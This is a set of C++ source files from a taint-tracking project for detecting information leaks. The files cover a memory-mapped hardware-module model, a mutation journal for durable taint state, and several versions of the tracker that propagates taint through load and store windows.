 * retired-instruction event stream (PiftTracker::onRecord), exactly
 * as the paper notes: "the SW module does not interact with the HW
 * module most of the time".
 */

#ifndef PIFT_CORE_HW_MODULE_HH
#define PIFT_CORE_HW_MODULE_HH

#include <cstdint>

#include "core/pift_tracker.hh"
#include "support/types.hh"

namespace pift::core
{

/** Command codes accepted through the command port. */
enum class HwCommand : uint32_t
{
    None = 0,
    RegisterRange = 1, //!< taint [start,end] for pid (source)
    CheckRange = 2,    //!< result <- overlap of [start,end] for pid
    Configure = 3,     //!< set NI/NT (and untaint enable) parameters
    ClearAll = 4       //!< drop all taint state
};

/** Byte offsets of the memory-mapped ports. */
namespace hw_ports
{
inline constexpr Addr command = 0x00;
inline constexpr Addr start = 0x04;
inline constexpr Addr end = 0x08;
inline constexpr Addr pid = 0x0c;
inline constexpr Addr ni = 0x10;
inline constexpr Addr nt = 0x14;
inline constexpr Addr untaint = 0x18;
inline constexpr Addr result = 0x1c;
inline constexpr Addr size = 0x20;
} // namespace hw_ports

/**
 * Register-level model of the PIFT hardware module. Wraps the tracker
 * and its taint store behind the MMIO command protocol.
 */
class HwModule
{
  public:
    /** @param tracker the tracking engine this module fronts. */
    explicit HwModule(PiftTracker &tracker) : tracker_(tracker) {}

    /** MMIO write at @p offset (one of hw_ports). */
    void writePort(Addr offset, uint32_t value);

    /** MMIO read at @p offset (result port; operands read back). */
    uint32_t readPort(Addr offset) const;

    /** The tracker behind the ports (for tests). */
    PiftTracker &tracker() { return tracker_; }

  private:
    void execute(HwCommand cmd);

    PiftTracker &tracker_;
    uint32_t reg_start = 0;
    uint32_t reg_end = 0;
    uint32_t reg_pid = 0;
    uint32_t reg_ni = 13;
    uint32_t reg_nt = 3;
    uint32_t reg_untaint = 1;
    uint32_t reg_result = 0;
};

} // namespace pift::core

#endif // PIFT_CORE_HW_MODULE_HH
