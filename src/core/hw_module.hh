/**
 * @file
 * The PIFT hardware module programming model (Figures 3 and 5).
 *
 * Software (the kernel-level PIFT Module) talks to the on-chip PIFT
 * hardware through an array of memory-mapped ports: it writes the
 * operand registers (address range, pid, parameters), then writes a
 * command code to the command port; the module latches the result
 * into the result port. Taint lookup/propagation from the CPU
 * front-end never goes through these ports — it is driven by the
 * retired-instruction event stream (PiftTracker::onRecord), exactly
 * as the paper notes: "the SW module does not interact with the HW
 * module most of the time".
 */

#ifndef PIFT_CORE_HW_MODULE_HH
#define PIFT_CORE_HW_MODULE_HH

#include <cstdint>
#include <functional>

#include "core/pift_tracker.hh"
#include "support/types.hh"

namespace pift::core
{

/** Command codes accepted through the command port. */
enum class HwCommand : uint32_t
{
    None = 0,
    RegisterRange = 1, //!< taint [start,end] for pid (source)
    CheckRange = 2,    //!< result <- overlap of [start,end] for pid
    Configure = 3,     //!< set NI/NT (and untaint enable) parameters
    ClearAll = 4       //!< drop all taint state
};

/** Byte offsets of the memory-mapped ports. */
namespace hw_ports
{
inline constexpr Addr command = 0x00;
inline constexpr Addr start = 0x04;
inline constexpr Addr end = 0x08;
inline constexpr Addr pid = 0x0c;
inline constexpr Addr ni = 0x10;
inline constexpr Addr nt = 0x14;
inline constexpr Addr untaint = 0x18;
inline constexpr Addr result = 0x1c;
inline constexpr Addr status = 0x20;
inline constexpr Addr size = 0x24;
} // namespace hw_ports

/**
 * Result-port value after a command the module could not latch
 * (transient command-port fault). Software must re-issue the command;
 * the CheckRange verdict encoding (0/1/2) never collides with it.
 */
inline constexpr uint32_t hw_cmd_error = 0xffffffffu;

/** Bits of the read-only status port. */
namespace hw_status
{
/** Verdicts for the pid in the pid register are degraded (loss). */
inline constexpr uint32_t degraded = 1u << 0;
/** The last command write failed transiently; re-issue it. */
inline constexpr uint32_t cmd_failed = 1u << 1;
} // namespace hw_status

/**
 * Register-level model of the PIFT hardware module. Wraps the tracker
 * and its taint store behind the MMIO command protocol.
 */
class HwModule
{
  public:
    /** @param tracker the tracking engine this module fronts. */
    explicit HwModule(PiftTracker &tracker) : tracker_(tracker) {}

    /** MMIO write at @p offset (one of hw_ports). */
    void writePort(Addr offset, uint32_t value);

    /** MMIO read at @p offset (result port; operands read back). */
    uint32_t readPort(Addr offset) const;

    /** The tracker behind the ports (for tests). */
    PiftTracker &tracker() { return tracker_; }

    /**
     * Interpose a transient-fault source on the command port: the
     * hook runs on every command write, and a true return makes the
     * command fail without executing (result latches hw_cmd_error,
     * the status port reports cmd_failed until the next successful
     * command). Used by the fault-injection layer; pass an empty
     * function to detach.
     */
    void setCommandFaultHook(std::function<bool()> hook)
    {
        cmd_fault = std::move(hook);
    }

  private:
    void execute(HwCommand cmd);

    PiftTracker &tracker_;
    std::function<bool()> cmd_fault;
    uint32_t reg_start = 0;
    uint32_t reg_end = 0;
    uint32_t reg_pid = 0;
    uint32_t reg_ni = 13;
    uint32_t reg_nt = 3;
    uint32_t reg_untaint = 1;
    uint32_t reg_result = 0;
    bool last_cmd_failed = false;
};

} // namespace pift::core

#endif // PIFT_CORE_HW_MODULE_HH
