/**
 * @file
 * Mutation-journal tap for durable taint state (DESIGN.md §11).
 *
 * A production PIFT module must not lose taint across a restart
 * (silent false negatives are the one forbidden outcome), so the
 * tracker can announce every state transition that matters for
 * recovery to a MutationJournal: taint/untaint mutations, window
 * openings (tainted loads), source registrations, sink verdicts,
 * clears, and loss notifications. The persist layer implements the
 * interface as a write-ahead log; replaying the records against a
 * snapshot reconstructs tracker + storage state exactly.
 *
 * Each record carries the resume cursor (records_seen,
 * controls_seen) *after* the triggering event, so recovery knows
 * precisely which prefix of the event stream the reconstructed state
 * corresponds to, and a resumed replay can continue at the next
 * event.
 *
 * Records are emitted after the event is fully applied; a journal
 * implementation may therefore snapshot the tracker/storage state
 * from inside append() and observe a consistent post-event state.
 */

#ifndef PIFT_CORE_JOURNAL_HH
#define PIFT_CORE_JOURNAL_HH

#include <cstdint>

#include "core/taint_store.hh"
#include "support/types.hh"

namespace pift::core
{

/** Tracker state transitions a journal can be asked to make durable. */
enum class JournalKind : uint8_t
{
    TaintedLoad = 0, //!< load hit taint; window opened/renewed
    StoreTaint,      //!< in-window store: range tainted (insert)
    StoreUntaint,    //!< out-of-window store: range untainted (remove)
    SourceTaint,     //!< source registration: range tainted (insert)
    SinkCheck,       //!< sink query and its verdict
    ClearAll,        //!< all taint state dropped
    StreamLoss,      //!< front-end lost events for pid (degrade)
    StateLoss        //!< whole-state loss (degrade every process)
};

/** Number of journal kinds (validation bound for decoded records). */
inline constexpr uint8_t journal_kind_count = 8;

/** Printable name of a journal kind (diagnostics, WAL dumps). */
const char *journalKindName(JournalKind kind);

/**
 * One journaled state transition. Field use by kind:
 *
 *  - TaintedLoad: pid, [start,end] = query range (its replay refreshes
 *    storage LRU state exactly like the original hit), ltlt/used = the
 *    acting window state after the load;
 *  - StoreTaint: pid, [start,end] = tainted range, ltlt/used = acting
 *    window state after the store (used counts attempts, so the record
 *    is emitted even when the insert covered no new bytes);
 *  - StoreUntaint: pid, [start,end] = removed range (only emitted when
 *    the remove changed state);
 *  - SourceTaint: pid, [start,end] (always emitted — even a no-new-
 *    bytes insert restructures entries and advances the LRU clock);
 *  - SinkCheck: pid, [start,end], id, verdict;
 *  - ClearAll / StateLoss: no payload;
 *  - StreamLoss: pid.
 */
struct JournalRecord
{
    JournalKind kind = JournalKind::ClearAll;
    SinkVerdict verdict = SinkVerdict::Clean; //!< SinkCheck only
    ProcId pid = 0;
    Addr start = 0;
    Addr end = 0;
    uint32_t id = 0;           //!< sink identifier (SinkCheck)
    SeqNum ltlt = 0;           //!< acting window LTLT (load/store taint)
    uint32_t used = 0;         //!< acting window budget used
    SeqNum records_seen = 0;   //!< resume cursor: records consumed
    uint64_t controls_seen = 0; //!< resume cursor: controls consumed
};

/** Consumer of journaled state transitions (the WAL, in persist/). */
class MutationJournal
{
  public:
    virtual ~MutationJournal() = default;

    /** Called once per state transition, in event order. */
    virtual void append(const JournalRecord &rec) = 0;
};

inline const char *
journalKindName(JournalKind kind)
{
    switch (kind) {
      case JournalKind::TaintedLoad:  return "tainted-load";
      case JournalKind::StoreTaint:   return "store-taint";
      case JournalKind::StoreUntaint: return "store-untaint";
      case JournalKind::SourceTaint:  return "source-taint";
      case JournalKind::SinkCheck:    return "sink-check";
      case JournalKind::ClearAll:     return "clear-all";
      case JournalKind::StreamLoss:   return "stream-loss";
      case JournalKind::StateLoss:    return "state-loss";
    }
    return "?";
}

} // namespace pift::core

#endif // PIFT_CORE_JOURNAL_HH
