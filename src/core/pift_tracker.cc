#include "core/pift_tracker.hh"

#include <algorithm>

#include "support/logging.hh"

namespace pift::core
{

PiftTracker::PiftTracker(const PiftParams &params, TaintStore &store_)
    : cfg(params), store(store_)
{
    pift_assert(cfg.ni >= 1, "NI must be at least 1");
    pift_assert(cfg.nt >= 1, "NT must be at least 1");
}

void
PiftTracker::afterOp(SeqNum records)
{
    stat.max_tainted_bytes = std::max(stat.max_tainted_bytes,
                                      store.bytes());
    stat.max_ranges = std::max<uint64_t>(stat.max_ranges,
                                         store.rangeCount());
    if (observer)
        observer(records, stat, store);
}

void
PiftTracker::onRecord(const sim::TraceRecord &rec)
{
    ++records_seen;
    if (rec.mem_kind == sim::MemKind::None)
        return;

    taint::AddrRange range(rec.mem_start, rec.mem_end);

    if (rec.mem_kind == sim::MemKind::Load) {
        ++stat.loads;
        // [Algorithm 1, lines 10-15] A load overlapping a tainted
        // range starts (or restarts) the tainting window.
        if (store.query(rec.pid, range)) {
            Window &w = windows[rec.pid];
            bool open = w.active && rec.local_seq <= w.ltlt + cfg.ni;
            if (cfg.restart || !open) {
                w.active = true;
                w.ltlt = rec.local_seq;
                w.used = 0;
            }
            ++stat.tainted_loads;
        }
        return;
    }

    // Store.
    ++stat.stores;
    Window &w = windows[rec.pid];
    bool in_window = w.active && rec.local_seq <= w.ltlt + cfg.ni;
    if (in_window && w.used < cfg.nt) {
        // [Lines 17-19] Taint the target range.
        ++w.used;
        if (store.insert(rec.pid, range)) {
            ++stat.taint_ops;
            afterOp(records_seen);
        }
    } else if (cfg.untaint) {
        // [Lines 20-22] Outside the window (or budget exhausted):
        // the target is likely overwritten with non-sensitive data.
        if (store.remove(rec.pid, range)) {
            ++stat.untaint_ops;
            afterOp(records_seen);
        }
    }
}

void
PiftTracker::onControl(const sim::ControlEvent &ev)
{
    taint::AddrRange range(ev.start, ev.end);
    switch (ev.kind) {
      case sim::ControlKind::RegisterSource:
        if (store.insert(ev.pid, range)) {
            ++stat.taint_ops;
            afterOp(records_seen);
        }
        break;
      case sim::ControlKind::CheckSink: {
        SinkResult res;
        res.sink_id = ev.id;
        res.pid = ev.pid;
        res.range = range;
        res.tainted = store.query(ev.pid, range);
        res.verdict = res.tainted ? SinkVerdict::Tainted
            : degraded(ev.pid) ? SinkVerdict::MaybeTainted
                               : SinkVerdict::Clean;
        res.at_records = records_seen;
        sinks.push_back(res);
        break;
      }
      case sim::ControlKind::ClearAll:
        store.clear();
        windows.clear();
        // All lost state is gone with the rest; stop degrading.
        lossy_pids.clear();
        break;
    }
}

bool
PiftTracker::anyLeak() const
{
    return std::any_of(sinks.begin(), sinks.end(),
                       [](const SinkResult &s) { return s.tainted; });
}

bool
PiftTracker::anyPossibleLeak() const
{
    return std::any_of(sinks.begin(), sinks.end(),
                       [](const SinkResult &s) {
                           return s.verdict != SinkVerdict::Clean;
                       });
}

void
PiftTracker::noteStreamLoss(ProcId pid)
{
    ++stat.stream_loss_events;
    lossy_pids.insert(pid);
}

bool
PiftTracker::degraded(ProcId pid) const
{
    return lossy_pids.count(pid) > 0 || store.saturated(pid);
}

void
PiftTracker::setParams(const PiftParams &params)
{
    pift_assert(params.ni >= 1, "NI must be at least 1");
    pift_assert(params.nt >= 1, "NT must be at least 1");
    cfg = params;
    windows.clear();
}

void
PiftTracker::reset()
{
    windows.clear();
    lossy_pids.clear();
    stat = TrackerStats{};
    sinks.clear();
    records_seen = 0;
}

} // namespace pift::core
