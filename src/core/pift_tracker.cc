#include "core/pift_tracker.hh"

#include <algorithm>

#include "sim/batch.hh"
#include "support/logging.hh"
#include "telemetry/registry.hh"

namespace pift::core
{

namespace
{

/** Tracker instruments, resolved once (see DESIGN.md §9). */
struct TrackerTel
{
    telemetry::Counter &windows_opened =
        telemetry::counter("core.tracker.windows_opened");
    telemetry::Counter &windows_renewed =
        telemetry::counter("core.tracker.windows_renewed");
    telemetry::Counter &windows_expired =
        telemetry::counter("core.tracker.windows_expired");
    telemetry::Counter &stores_tainted =
        telemetry::counter("core.tracker.stores_tainted");
    telemetry::Counter &stores_untainted =
        telemetry::counter("core.tracker.stores_untainted");
    telemetry::Counter &sinks_clean =
        telemetry::counter("core.tracker.sinks_clean");
    telemetry::Counter &sinks_tainted =
        telemetry::counter("core.tracker.sinks_tainted");
    telemetry::Counter &sinks_maybe =
        telemetry::counter("core.tracker.sinks_maybe");
    telemetry::Counter &batch_flushes =
        telemetry::counter("core.tracker.batch_flushes");
};

TrackerTel &
tel()
{
    static TrackerTel t;
    return t;
}

} // anonymous namespace

PiftTracker::PiftTracker(const PiftParams &params, TaintStore &store_)
    : cfg(params), store(store_)
{
    pift_assert(cfg.ni >= 1, "NI must be at least 1");
    pift_assert(cfg.nt >= 1, "NT must be at least 1");
}

PiftTracker::~PiftTracker()
{
    // Publish the batched per-record tallies (see pift_tracker.hh).
    if (tel_windows_opened)
        tel().windows_opened.inc(tel_windows_opened);
    if (tel_windows_renewed)
        tel().windows_renewed.inc(tel_windows_renewed);
    if (tel_windows_expired)
        tel().windows_expired.inc(tel_windows_expired);
    if (tel_stores_tainted)
        tel().stores_tainted.inc(tel_stores_tainted);
    if (tel_stores_untainted)
        tel().stores_untainted.inc(tel_stores_untainted);
    if (tel_batch_flushes)
        tel().batch_flushes.inc(tel_batch_flushes);
}

void
PiftTracker::journalEvent(JournalRecord rec)
{
    rec.records_seen = records_seen;
    rec.controls_seen = controls_seen;
    journal_->append(rec);
}

void
PiftTracker::afterOp(SeqNum records)
{
    stat.max_tainted_bytes = std::max(stat.max_tainted_bytes,
                                      store.bytes());
    stat.max_ranges = std::max<uint64_t>(stat.max_ranges,
                                         store.rangeCount());
    if (observer)
        observer(records, stat, store);
}

void
PiftTracker::handleMem(ProcId pid, SeqNum local_seq,
                       sim::MemKind kind, Addr start, Addr end)
{
    taint::AddrRange range(start, end);

    if (kind == sim::MemKind::Load) {
        ++stat.loads;
        // [Algorithm 1, lines 10-15] A load overlapping a tainted
        // range starts (or restarts) the tainting window.
        if (store.query(pid, range)) {
            Window &w = windowFor(pid);
            bool open = w.active && local_seq <= w.ltlt + cfg.ni;
            if (w.active && !open) {
                // Lazily retire the stale window so expiry is
                // countable; semantics are unchanged (an inactive and
                // an expired window behave identically below).
                w.active = false;
                if constexpr (telemetry::compiledIn())
                    ++tel_windows_expired;
                PIFT_PROV(recorder_,
                          record(provenance::ProvKind::WindowExpire,
                                 provenance::ProvCause::WindowClosed,
                                 pid, range.start, range.end, 0,
                                 w.ltlt, w.used));
            }
            if (cfg.restart || !open) {
                if constexpr (telemetry::compiledIn())
                    ++(open ? tel_windows_renewed
                            : tel_windows_opened);
                w.active = true;
                w.ltlt = local_seq;
                w.used = 0;
                PIFT_PROV(
                    recorder_,
                    record(open ? provenance::ProvKind::WindowRenew
                                : provenance::ProvKind::WindowOpen,
                           provenance::ProvCause::TaintHit, pid,
                           range.start, range.end, 0, w.ltlt, w.used));
            } else {
                // restart=false hit inside an open window: still a
                // tainted load — the explainer needs it as the causal
                // parent of the stores that follow.
                PIFT_PROV(recorder_,
                          record(provenance::ProvKind::WindowRenew,
                                 provenance::ProvCause::TaintHit, pid,
                                 range.start, range.end, 0, w.ltlt,
                                 w.used));
            }
            ++stat.tainted_loads;
            if (journal_) {
                // Journaled even when the window was left untouched
                // (restart=false): replaying the hit's query refreshes
                // the storage LRU state exactly like the original.
                journalEvent({JournalKind::TaintedLoad,
                              SinkVerdict::Clean, pid, range.start,
                              range.end, 0, w.ltlt, w.used, 0, 0});
            }
        }
        return;
    }

    // Store.
    ++stat.stores;
    Window &w = windowFor(pid);
    bool in_window = w.active && local_seq <= w.ltlt + cfg.ni;
    if (w.active && !in_window) {
        w.active = false;
        if constexpr (telemetry::compiledIn())
            ++tel_windows_expired;
        PIFT_PROV(recorder_,
                  record(provenance::ProvKind::WindowExpire,
                         provenance::ProvCause::WindowClosed, pid,
                         range.start, range.end, 0, w.ltlt, w.used));
    }
    if (in_window && w.used < cfg.nt) {
        // [Lines 17-19] Taint the target range.
        ++w.used;
        bool grew = store.insert(pid, range);
        if (grew) {
            ++stat.taint_ops;
            if constexpr (telemetry::compiledIn())
                ++tel_stores_tainted;
            afterOp(records_seen);
        }
        PIFT_PROV(recorder_,
                  record(grew ? provenance::ProvKind::TaintWrite
                              : provenance::ProvKind::TaintMerge,
                         provenance::ProvCause::TaintHit, pid,
                         range.start, range.end, 0, w.ltlt, w.used));
        if (journal_) {
            // Journaled regardless of the insert's outcome: the
            // budget (used) advanced either way, and even a no-new-
            // bytes insert restructures entries and the LRU clock.
            journalEvent({JournalKind::StoreTaint, SinkVerdict::Clean,
                          pid, range.start, range.end, 0, w.ltlt,
                          w.used, 0, 0});
        }
    } else if (cfg.untaint) {
        // [Lines 20-22] Outside the window (or budget exhausted):
        // the target is likely overwritten with non-sensitive data.
        if (store.remove(pid, range)) {
            ++stat.untaint_ops;
            if constexpr (telemetry::compiledIn())
                ++tel_stores_untainted;
            afterOp(records_seen);
            PIFT_PROV(
                recorder_,
                record(provenance::ProvKind::Untaint,
                       in_window
                           ? provenance::ProvCause::BudgetExhausted
                           : provenance::ProvCause::WindowClosed,
                       pid, range.start, range.end, 0, w.ltlt,
                       w.used));
            if (journal_) {
                journalEvent({JournalKind::StoreUntaint,
                              SinkVerdict::Clean, pid, range.start,
                              range.end, 0, 0, 0, 0, 0});
            }
        }
    }
}

void
PiftTracker::onRecord(const sim::TraceRecord &rec)
{
    ++records_seen;
    if (rec.mem_kind == sim::MemKind::None)
        return;
    PIFT_PROV(recorder_, setCursor(records_seen));
    handleMem(rec.pid, rec.local_seq, rec.mem_kind, rec.mem_start,
              rec.mem_end);
}

void
PiftTracker::onBatch(const sim::EventBatch &batch)
{
    // Tight SoA loop over only the memory events. records_seen is
    // advanced to each event's per-event value (count of records up
    // to and including it) before handling, so journal stamps and
    // observer callbacks match the unbatched path byte for byte.
    const SeqNum base = records_seen;
    for (uint32_t k = 0; k < batch.mem_count; ++k) {
        records_seen =
            base + (batch.mem_index[k] - batch.index_base) + 1;
        PIFT_PROV(recorder_, setCursor(records_seen));
        handleMem(batch.pid[k], batch.local_seq[k],
                  static_cast<sim::MemKind>(batch.kind[k]),
                  batch.start[k], batch.end[k]);
    }
    records_seen = base + batch.count;
    if constexpr (telemetry::compiledIn())
        ++tel_batch_flushes;
}

void
PiftTracker::onControl(const sim::ControlEvent &ev)
{
    ++controls_seen;
    taint::AddrRange range(ev.start, ev.end);
    PIFT_PROV(recorder_, setCursor(records_seen));
    switch (ev.kind) {
      case sim::ControlKind::RegisterSource:
        if (store.insert(ev.pid, range)) {
            ++stat.taint_ops;
            afterOp(records_seen);
        }
        PIFT_PROV(recorder_,
                  record(provenance::ProvKind::SourceRead,
                         provenance::ProvCause::None, ev.pid,
                         range.start, range.end, ev.id));
        if (journal_) {
            journalEvent({JournalKind::SourceTaint, SinkVerdict::Clean,
                          ev.pid, range.start, range.end, ev.id, 0, 0,
                          0, 0});
        }
        break;
      case sim::ControlKind::CheckSink: {
        SinkResult res;
        res.sink_id = ev.id;
        res.pid = ev.pid;
        res.range = range;
        res.tainted = store.query(ev.pid, range);
        res.verdict = res.tainted ? SinkVerdict::Tainted
            : degraded(ev.pid) ? SinkVerdict::MaybeTainted
                               : SinkVerdict::Clean;
        res.at_records = records_seen;
        switch (res.verdict) {
          case SinkVerdict::Clean:
            tel().sinks_clean.inc();
            break;
          case SinkVerdict::Tainted:
            tel().sinks_tainted.inc();
            break;
          case SinkVerdict::MaybeTainted:
            tel().sinks_maybe.inc();
            break;
        }
        sinks.push_back(res);
#if defined(PIFT_PROVENANCE_ENABLED)
        if (recorder_) {
            // Informational proximate cause; explain() resolves the
            // concrete degradation record behind a MaybeTainted.
            provenance::ProvCause why = provenance::ProvCause::None;
            if (res.verdict == SinkVerdict::Tainted) {
                why = provenance::ProvCause::TaintHit;
            } else if (res.verdict == SinkVerdict::MaybeTainted) {
                why = all_lossy
                    ? provenance::ProvCause::StateLossDeclared
                    : lossy_pids.count(ev.pid)
                    ? provenance::ProvCause::FrontEndLoss
                    : provenance::ProvCause::StorageSaturated;
            }
            recorder_->record(provenance::ProvKind::SinkCheck, why,
                              ev.pid, range.start, range.end, ev.id, 0,
                              0, static_cast<uint8_t>(res.verdict));
        }
#endif
        if (journal_) {
            journalEvent({JournalKind::SinkCheck, res.verdict, ev.pid,
                          range.start, range.end, ev.id, 0, 0, 0, 0});
        }
        break;
      }
      case sim::ControlKind::ClearAll:
        store.clear();
        windows.clear();
        memo_w = nullptr;
        // All lost state is gone with the rest; stop degrading.
        lossy_pids.clear();
        all_lossy = false;
        PIFT_PROV(recorder_,
                  recordGlobal(provenance::ProvKind::ClearAll,
                               provenance::ProvCause::None));
        if (journal_) {
            journalEvent({JournalKind::ClearAll, SinkVerdict::Clean, 0,
                          0, 0, 0, 0, 0, 0, 0});
        }
        break;
    }
}

bool
PiftTracker::anyLeak() const
{
    return std::any_of(sinks.begin(), sinks.end(),
                       [](const SinkResult &s) { return s.tainted; });
}

bool
PiftTracker::anyPossibleLeak() const
{
    return std::any_of(sinks.begin(), sinks.end(),
                       [](const SinkResult &s) {
                           return s.verdict != SinkVerdict::Clean;
                       });
}

void
PiftTracker::noteStreamLoss(ProcId pid)
{
    ++stat.stream_loss_events;
    lossy_pids.insert(pid);
    PIFT_PROV(recorder_,
              record(provenance::ProvKind::StreamLoss,
                     provenance::ProvCause::FrontEndLoss, pid));
    if (journal_) {
        journalEvent({JournalKind::StreamLoss, SinkVerdict::Clean, pid,
                      0, 0, 0, 0, 0, 0, 0});
    }
}

void
PiftTracker::noteStateLoss()
{
    ++stat.stream_loss_events;
    all_lossy = true;
    PIFT_PROV(recorder_,
              recordGlobal(provenance::ProvKind::StateLoss,
                           provenance::ProvCause::StateLossDeclared));
    if (journal_) {
        journalEvent({JournalKind::StateLoss, SinkVerdict::Clean, 0, 0,
                      0, 0, 0, 0, 0, 0});
    }
}

bool
PiftTracker::degraded(ProcId pid) const
{
    return all_lossy || lossy_pids.count(pid) > 0 ||
        store.saturated(pid);
}

TrackerState
PiftTracker::exportState() const
{
    TrackerState state;
    for (const auto &[pid, w] : windows)
        state.windows.push_back({pid, w.active, w.ltlt, w.used});
    std::sort(state.windows.begin(), state.windows.end(),
              [](const TrackerState::WindowState &a,
                 const TrackerState::WindowState &b) {
                  return a.pid < b.pid;
              });
    state.lossy.assign(lossy_pids.begin(), lossy_pids.end());
    std::sort(state.lossy.begin(), state.lossy.end());
    state.global_loss = all_lossy;
    state.sinks = sinks;
    state.records_seen = records_seen;
    state.controls_seen = controls_seen;
    return state;
}

void
PiftTracker::restoreState(const TrackerState &state)
{
    windows.clear();
    memo_w = nullptr;
    for (const auto &w : state.windows)
        windows[w.pid] = {w.active, w.ltlt, w.used};
    lossy_pids.clear();
    lossy_pids.insert(state.lossy.begin(), state.lossy.end());
    all_lossy = state.global_loss;
    sinks = state.sinks;
    records_seen = state.records_seen;
    controls_seen = state.controls_seen;
    stat = TrackerStats{};
}

void
PiftTracker::setParams(const PiftParams &params)
{
    pift_assert(params.ni >= 1, "NI must be at least 1");
    pift_assert(params.nt >= 1, "NT must be at least 1");
    cfg = params;
    windows.clear();
    memo_w = nullptr;
}

void
PiftTracker::reset()
{
    windows.clear();
    memo_w = nullptr;
    lossy_pids.clear();
    all_lossy = false;
    stat = TrackerStats{};
    sinks.clear();
    records_seen = 0;
    controls_seen = 0;
}

} // namespace pift::core
