/**
 * @file
 * The PIFT taint-propagation heuristic (Algorithm 1).
 *
 * The tracker consumes the retired-instruction stream and maintains
 * the tainted range set R through a per-process Tainting Window (TW):
 *
 *  - on a memory load whose source range overlaps R, (re)start the TW:
 *    remember the per-process instruction index LTLT and zero the
 *    propagation budget;
 *  - on a memory store at instruction k: if k <= LTLT + NI and fewer
 *    than NT propagations have been used in this window, taint the
 *    store's target range; otherwise untaint it (when untainting is
 *    enabled).
 *
 * Everything between the loads and stores — the "process step" that
 * full DIFT instruments — is deliberately ignored; that is the
 * paper's core trade.
 *
 * Control events implement the software stack of Figure 3: source
 * registration taints a range, a sink check queries the outgoing
 * buffer and records a SinkResult.
 */

#ifndef PIFT_CORE_PIFT_TRACKER_HH
#define PIFT_CORE_PIFT_TRACKER_HH

#include <cstdint>
#include <functional>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "core/journal.hh"
#include "core/taint_store.hh"
#include "provenance/recorder.hh"
#include "sim/trace.hh"
#include "support/types.hh"
#include "taint/addr_range.hh"

namespace pift::core
{

/** Tainting-window configuration (the paper's NI and NT). */
struct PiftParams
{
    /** Tainting window size NI, in per-process instructions. */
    unsigned ni = 13;
    /** Maximum taint propagations NT per window. */
    unsigned nt = 3;
    /** Untaint stores that fall outside every window (Section 3.2). */
    bool untaint = true;
    /**
     * Restart the window on every tainted load (Algorithm 1 / Figure
     * 4 semantics). When false — an ablation variant — a tainted load
     * only opens a window if none is active, and never refreshes one.
     */
    bool restart = true;
};

/** Outcome of one sink check. */
struct SinkResult
{
    uint32_t sink_id = 0;        //!< app-assigned sink identifier
    ProcId pid = 0;
    taint::AddrRange range;      //!< buffer that was checked
    bool tainted = false;        //!< true = leak detected
    /**
     * Degradation-aware verdict: Tainted iff `tainted`; a negative
     * check degrades to MaybeTainted when the backend is saturated or
     * the front-end reported event loss for this process.
     */
    SinkVerdict verdict = SinkVerdict::Clean;
    SeqNum at_records = 0;       //!< records preceding the check
};

/** Running counters of the tracker (drives Figures 14-19). */
struct TrackerStats
{
    uint64_t loads = 0;            //!< load events observed
    uint64_t stores = 0;           //!< store events observed
    uint64_t tainted_loads = 0;    //!< loads that opened/renewed a TW
    uint64_t taint_ops = 0;        //!< effective taint propagations
    uint64_t untaint_ops = 0;      //!< effective untaint operations
    uint64_t max_tainted_bytes = 0;
    uint64_t max_ranges = 0;
    uint64_t stream_loss_events = 0; //!< front-end loss notifications
};

/**
 * Serializable tracker state (DESIGN.md §11): the per-process window
 * machines, loss flags, accumulated sink results, and the event
 * cursor. Together with a TaintStorageState this is everything a
 * restarted tracker needs to continue exactly where the original
 * stopped; statistics counters are observability and are not
 * captured (a restored tracker restarts them at zero).
 */
struct TrackerState
{
    struct WindowState
    {
        ProcId pid = 0;
        bool active = false;
        SeqNum ltlt = 0;
        unsigned used = 0;
    };

    std::vector<WindowState> windows; //!< ascending pid
    std::vector<ProcId> lossy;        //!< ascending pid
    bool global_loss = false;         //!< noteStateLoss() was called
    std::vector<SinkResult> sinks;
    SeqNum records_seen = 0;
    uint64_t controls_seen = 0;
};

/** Online implementation of Algorithm 1 over a TaintStore backend. */
class PiftTracker : public sim::TraceSink
{
  public:
    /**
     * Called after every effective taint/untaint operation with the
     * record count so far; benches sample tainted-bytes/op-count
     * time series through this hook.
     */
    using OpObserver = std::function<void(SeqNum records,
                                          const TrackerStats &,
                                          const TaintStore &)>;

    /**
     * @param params window configuration
     * @param store taint-state backend (not owned)
     */
    PiftTracker(const PiftParams &params, TaintStore &store);
    ~PiftTracker() override;

    void onRecord(const sim::TraceRecord &rec) override;
    void onControl(const sim::ControlEvent &ev) override;

    /**
     * Batched fast path (DESIGN.md §12): iterate the chunk's memory-
     * event SoA arrays directly, skipping non-memory records without
     * touching them. Byte-identical to count onRecord calls — the
     * records_seen cursor (and so journal stamps and observer
     * callbacks) is advanced per event exactly as the per-event path
     * would.
     */
    void onBatch(const sim::EventBatch &batch) override;

    const TrackerStats &stats() const { return stat; }
    const std::vector<SinkResult> &sinkResults() const { return sinks; }

    /** True when any sink check so far saw tainted data. */
    bool anyLeak() const;

    /** True when any sink check was Tainted *or* MaybeTainted. */
    bool anyPossibleLeak() const;

    /**
     * The CPU front-end (or a decoupling queue between it and the
     * module) reports that events for @p pid were lost or are
     * suspect. From here on, negative sink checks for that process
     * answer MaybeTainted — taint could have propagated through the
     * missing events.
     */
    void noteStreamLoss(ProcId pid);

    /**
     * The whole taint state is suspect (recovery from corrupt durable
     * state, an unrecoverable journal failure): from here on negative
     * sink checks for *every* process answer MaybeTainted. Cleared by
     * a ClearAll (all state is dropped with the loss) — nothing else.
     */
    void noteStateLoss();

    /**
     * True when Clean answers for @p pid can no longer be trusted:
     * the store lost state (saturation), the stream lost events, or
     * whole-state loss was declared.
     */
    bool degraded(ProcId pid) const;

    /** Install the per-operation observer (may be empty). */
    void setOpObserver(OpObserver obs) { observer = std::move(obs); }

    /**
     * Install a mutation journal (may be null to detach). The tracker
     * emits one JournalRecord after every state transition listed in
     * core/journal.hh; the journal is not owned.
     */
    void setJournal(MutationJournal *journal) { journal_ = journal; }

    /**
     * Attach a provenance flight recorder (may be null to detach).
     * The tracker stamps every record with its records_seen cursor —
     * it advances the recorder's cursor as it consumes events, so
     * records emitted by the storage underneath carry the same
     * journal-compatible stamp. No-op in PIFT_PROVENANCE=OFF builds.
     */
    void
    setRecorder(provenance::Recorder *rec)
    {
#if defined(PIFT_PROVENANCE_ENABLED)
        recorder_ = rec;
#else
        (void)rec;
#endif
    }

    /**
     * Export window machines, loss flags, sink results and the event
     * cursor in canonical order (see TrackerState).
     */
    TrackerState exportState() const;

    /**
     * Replace windows, loss flags, sink results and the event cursor
     * with @p state. Statistics are reset (counters restart at zero);
     * the journal and observer hooks are kept.
     */
